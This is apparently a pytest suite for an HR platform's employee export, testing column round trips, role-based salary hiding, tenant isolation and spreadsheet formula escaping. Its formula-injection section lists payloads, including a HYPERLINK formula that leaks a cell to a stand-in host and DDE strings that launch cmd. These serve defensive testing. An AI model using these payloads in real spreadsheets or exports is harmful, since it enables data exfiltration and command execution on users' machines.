"""Exporting people: the import's columns, a file that imports back unchanged,
formula-like cells that a spreadsheet will not run, and salary only for its readers."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from modules.employees.columns import COLUMN_NAMES, SALARY_COLUMNS
from modules.employees.importing import import_employees
from modules.employees.models import Employee
from opsplatform.tenancy import tenant_context
from tenants.roles import RoleCode
from tests.modules.employees.factories import (
    DepartmentFactory,
    EmployeeFactory,
    PositionFactory,
    WorkLocationFactory,
    WorkScheduleFactory,
)

pytestmark = pytest.mark.django_db

EXPORT = "/admin/employees/employee/export/"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def export(client, file_format: str = "0") -> bytes:
    response = client.post(EXPORT, {"format": file_format, "resource": "0"})
    assert response.status_code == 200, response.content[:500]
    assert "attachment" in response["Content-Disposition"]
    return response.content


def rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def header_of(content: bytes) -> list[str]:
    return next(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.fixture
def company(tenant_a):
    """A small company with every column filled somewhere."""
    with tenant_context(tenant_a):
        engineering = DepartmentFactory(name="Engineering", code="ENG")
        developer = PositionFactory(title="Developer", department=engineering)
        dubai = WorkLocationFactory(name="Dubai HQ")
        standard = WorkScheduleFactory(name="Standard")
        boss = EmployeeFactory(
            employee_number="E-001",
            first_name="Huda",
            last_name="Nasser",
            work_email="huda@acme.test",
            phone="+971 50 123 4567",
            hire_date=date(2019, 1, 2),
            department=engineering,
            position=developer,
            location=dubai,
            schedule=standard,
            hourly_cost_rate=Decimal("80.00"),
            cost_currency="AED",
            salary=Decimal("30000.00"),
            salary_currency="AED",
            emergency_contact_name="Ali Nasser",
            emergency_contact_phone="050 000 0000",
            emergency_contact_relation="Brother",
        )
        EmployeeFactory(
            employee_number="E-002",
            first_name="محمد",
            last_name="العلي",
            work_email="mohammed@acme.test",
            hire_date=date(2023, 5, 17),
            employment_type=Employee.EmploymentType.PART_TIME,
            department=engineering,
            manager=boss,
            salary=Decimal("12000.50"),
            salary_currency="AED",
        )
        EmployeeFactory(
            employee_number="E-003",
            first_name="Omar",
            last_name="Left",
            hire_date=date(2020, 3, 1),
            status=Employee.Status.TERMINATED,
            end_date=date(2024, 12, 31),
            termination_reason="Resigned",
            manager=boss,
        )
    return boss


@pytest.fixture
def hr_client(tenant_a, hr_a, client_for):
    return client_for(tenant_a, hr_a)


def reimport(tenant, content: bytes, filename: str = "export.csv", may_set_salary=True):
    with tenant_context(tenant):
        return import_employees(content, filename, may_set_salary=may_set_salary, dry_run=True)


# -- columns and round trip -----------------------------------------------------------


def test_the_csv_export_has_exactly_the_import_columns(hr_client, company):
    assert header_of(export(hr_client)) == COLUMN_NAMES


def test_the_export_names_related_rows_the_way_the_import_finds_them(hr_client, company):
    rows = {row["employee_number"]: row for row in rows_of(export(hr_client))}

    assert rows["E-002"]["manager"] == "E-001"
    assert rows["E-001"]["department"] == "Engineering"
    assert rows["E-001"]["position"] == "Developer"
    assert rows["E-001"]["location"] == "Dubai HQ"
    assert rows["E-001"]["schedule"] == "Standard"
    assert rows["E-002"]["first_name"] == "محمد"
    assert rows["E-003"]["end_date"] == "2024-12-31"


def test_an_exported_csv_imports_back_with_no_changes(hr_client, tenant_a, company):
    report = reimport(tenant_a, export(hr_client))

    assert report.ok, report.errors
    assert (report.total, report.to_create, report.to_update, report.unchanged) == (3, 0, 0, 3)


def test_an_exported_xlsx_imports_back_with_no_changes(hr_client, tenant_a, company):
    content = export(hr_client, "1")
    header = [cell.value for cell in load_workbook(io.BytesIO(content)).worksheets[0][1]]
    assert header == COLUMN_NAMES

    report = reimport(tenant_a, content, "export.xlsx")

    assert report.ok, report.errors
    assert (report.to_create, report.to_update, report.unchanged) == (0, 0, 3)


def test_a_mixed_case_work_email_survives_the_round_trip(hr_client, tenant_a, company):
    with tenant_context(tenant_a):
        Employee.objects.filter(pk=company.pk).update(work_email="Huda.Nasser@Acme.test")

    report = reimport(tenant_a, export(hr_client))

    assert (report.to_update, report.unchanged) == (0, 3), report.errors


def test_the_round_trip_of_someone_without_salary_permission_changes_nothing(
    tenant_a, ceo_a, client_for, company
):
    content = export(client_for(tenant_a, ceo_a))

    report = reimport(tenant_a, content, may_set_salary=False)

    assert report.ok, report.errors
    assert (report.to_update, report.unchanged) == (0, 3)


# -- formula injection ---------------------------------------------------------------------

DANGEROUS = [
    '=HYPERLINK("http://evil.test/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("name", DANGEROUS)
def test_formula_like_cells_are_escaped_in_csv_and_keep_their_text(
    name, hr_client, tenant_a, company
):
    with tenant_context(tenant_a):
        Employee.objects.filter(pk=company.pk).update(first_name=name)

    rows = {row["employee_number"]: row for row in rows_of(export(hr_client))}

    cell = rows["E-001"]["first_name"]
    assert not cell.startswith(FORMULA_STARTS), cell
    assert name in cell  # escaped, not mangled: the person's text is all there


@pytest.mark.parametrize("name", DANGEROUS)
def test_formula_like_cells_are_not_formulas_in_xlsx(name, hr_client, tenant_a, company):
    with tenant_context(tenant_a):
        Employee.objects.filter(pk=company.pk).update(first_name=name)

    sheet = load_workbook(io.BytesIO(export(hr_client, "1"))).worksheets[0]
    column = COLUMN_NAMES.index("first_name") + 1
    cells = {row[0].value: row[column - 1] for row in sheet.iter_rows(min_row=2)}

    cell = cells["E-001"]
    assert cell.data_type != "f"  # a text cell: Excel shows it, never runs it
    assert name in str(cell.value)


@pytest.mark.parametrize("name", DANGEROUS)
def test_an_escaped_cell_imports_back_as_the_original_text(name, hr_client, tenant_a, company):
    with tenant_context(tenant_a):
        Employee.objects.filter(pk=company.pk).update(first_name=name)

    report = reimport(tenant_a, export(hr_client))

    assert report.ok, report.errors
    assert (report.to_update, report.unchanged) == (0, 3)


# -- salary --------------------------------------------------------------------------------


@pytest.fixture
def manager_client(tenant_a, make_member, link_login, client_for, company):
    user = make_member(tenant_a, "huda@acme.test", roles=[RoleCode.MANAGER])
    link_login(tenant_a, user, company)
    return client_for(tenant_a, user)


def test_hr_export_carries_salaries(hr_client, company):
    rows = {row["employee_number"]: row for row in rows_of(export(hr_client))}

    assert rows["E-001"]["salary"] == "30000.00"
    assert rows["E-001"]["salary_currency"] == "AED"


def test_a_managers_export_has_no_salary_columns_and_only_their_team(manager_client, company):
    content = export(manager_client)

    header = header_of(content)
    assert not SALARY_COLUMNS & set(header)
    # Nor the cost rate: cost is for owners, HR, finance and the CEO (employees.view_cost_rate).
    cost = {"hourly_cost_rate", "cost_currency"}
    assert header == [c for c in COLUMN_NAMES if c not in SALARY_COLUMNS | cost]
    numbers = {row["employee_number"] for row in rows_of(content)}
    assert numbers == {"E-002", "E-003"}
    assert "12000.50" not in content.decode("utf-8-sig")


def test_a_managers_xlsx_export_has_no_salary_columns(manager_client, company):
    sheet = load_workbook(io.BytesIO(export(manager_client, "1"))).worksheets[0]

    header = [cell.value for cell in sheet[1]]
    assert not SALARY_COLUMNS & set(header)


def test_a_plain_employee_cannot_export(tenant_a, make_member, client_for, company):
    client = client_for(tenant_a, make_member(tenant_a, "someone@acme.test"))

    assert client.post(EXPORT, {"format": "0", "resource": "0"}).status_code == 403


def test_the_export_never_contains_another_companys_people(hr_client, tenant_b, company):
    with tenant_context(tenant_b):
        EmployeeFactory(employee_number="G-999", first_name="Globex")

    numbers = {row["employee_number"] for row in rows_of(export(hr_client))}

    assert numbers == {"E-001", "E-002", "E-003"}
